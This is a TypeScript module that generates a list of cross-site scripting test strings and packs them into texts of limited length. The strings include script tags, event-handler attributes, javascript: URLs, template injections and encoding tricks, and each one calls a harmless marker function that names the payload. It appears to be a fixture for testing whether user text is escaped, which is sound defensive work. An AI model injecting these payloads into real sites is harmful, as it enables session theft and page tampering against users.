/** Texts that would run a script wherever a page took them for more than text. Each calls `ran` with its own name. */

const tricks: readonly ((ran: (quote?: string) => string) => string)[] = [
  (ran) => `<script>${ran()}</script>`,
  (ran) => `"><script>${ran()}</script>`,
  (ran) => `<img src=x onerror=${ran()}>`,
  (ran) => `'"><img src=x onerror="${ran()}">`,
  (ran) => `<svg onload=${ran()}>`,
  (ran) => `<svg><script>${ran()}</script></svg>`,
  (ran) => `<svg><animate onbegin=${ran()} attributeName=x dur=1s>`,
  (ran) => `<body onload=${ran()}>`,
  (ran) => `<iframe src="javascript:${ran()}">`,
  (ran) => `<iframe srcdoc="<script>${ran()}</script>">`,
  (ran) => `<a href="javascript:${ran()}">a</a>`,
  (ran) => `javascript:${ran()}`,
  (ran) => `JaVaScRiPt:${ran()}//`,
  (ran) => `java\tscript:${ran()}`,
  (ran) => `data:text/html,<script>${ran()}</script>`,
  (ran) => `https://a.b/"onmouseover="${ran()}`,
  (ran) => `<details open ontoggle=${ran()}>`,
  (ran) => `<input autofocus onfocus=${ran()}>`,
  (ran) => `<video><source onerror=${ran()}>`,
  (ran) => `<object data="javascript:${ran()}">`,
  (ran) => `<embed src="javascript:${ran()}">`,
  (ran) => `<form><button formaction="javascript:${ran()}">b`,
  (ran) => `<math><mtext><img src=x onerror=${ran()}>`,
  (ran) => `<style>@import"javascript:${ran()}"</style>`,
  (ran) => `<link rel=stylesheet href="javascript:${ran()}">`,
  (ran) => `<meta http-equiv=refresh content="0;javascript:${ran()}">`,
  (ran) => `<base href="javascript:${ran()}//">`,
  (ran) => `" autofocus onfocus="${ran()}`,
  (ran) => `' style='x:expression(${ran('"')})`,
  (ran) => `{{constructor.constructor('${ran('"')}')()}}`,
  (ran) => `\${${ran()}}`,
  (ran) => `<%= ${ran()} %>`,
  (ran) => `$t(${ran()}) {{title}} {{name}}`,
  (ran) => `[a](javascript:${ran()})`,
  (ran) => `![a](x" onerror="${ran()})`,
  (ran) => `\`<img src=x onerror=${ran()}>\``,
  (ran) => `＜script＞${ran()}＜/script＞`,
  (ran) => `\u202e<script>${ran()}</script>`,
  (ran) => `<scr\u200bipt>${ran()}</script>`,
  (ran) => `<scr<script>ipt>${ran()}</script>`,
  (ran) => `%3Cscript%3E${ran()}%3C/script%3E`,
  (ran) => `&lt;script&gt;${ran()}&lt;/script&gt;`,
  (ran) => `\\u003cscript\\u003e${ran()}\\u003c/script>`,
  (ran) => `--><script>${ran()}</script><!--`,
  (ran) => `</title></style><script>${ran()}</script>`,
  (ran) => `<noscript><p title="</noscript><img src=x onerror=${ran()}>">`,
  (ran) => `<img src=\`x\`onerror=${ran()}>`,
  (ran) => `=HYPERLINK("javascript:${ran()}")`,
]

export interface Payload {
  /** Found on a page, it says which text is shown. */
  readonly name: string
  readonly text: string
}

/** All of them fit into a word of a note: 64 characters. */
export const payloads: readonly Payload[] = tricks.map((trick, index) => {
  const name = `x${String(index + 1).padStart(2, '0')}x`
  return { name, text: trick((quote = "'") => `ran(${quote}${name}${quote})`) }
})

/** The payloads in texts of at most `max` characters, one on each line. */
export function payloadTexts(max: number): string[] {
  const texts: string[] = []
  for (const { text } of payloads) {
    const last = texts.at(-1)
    if (last === undefined || last.length + text.length >= max) texts.push(text)
    else texts[texts.length - 1] = `${last}\n${text}`
  }
  return texts
}
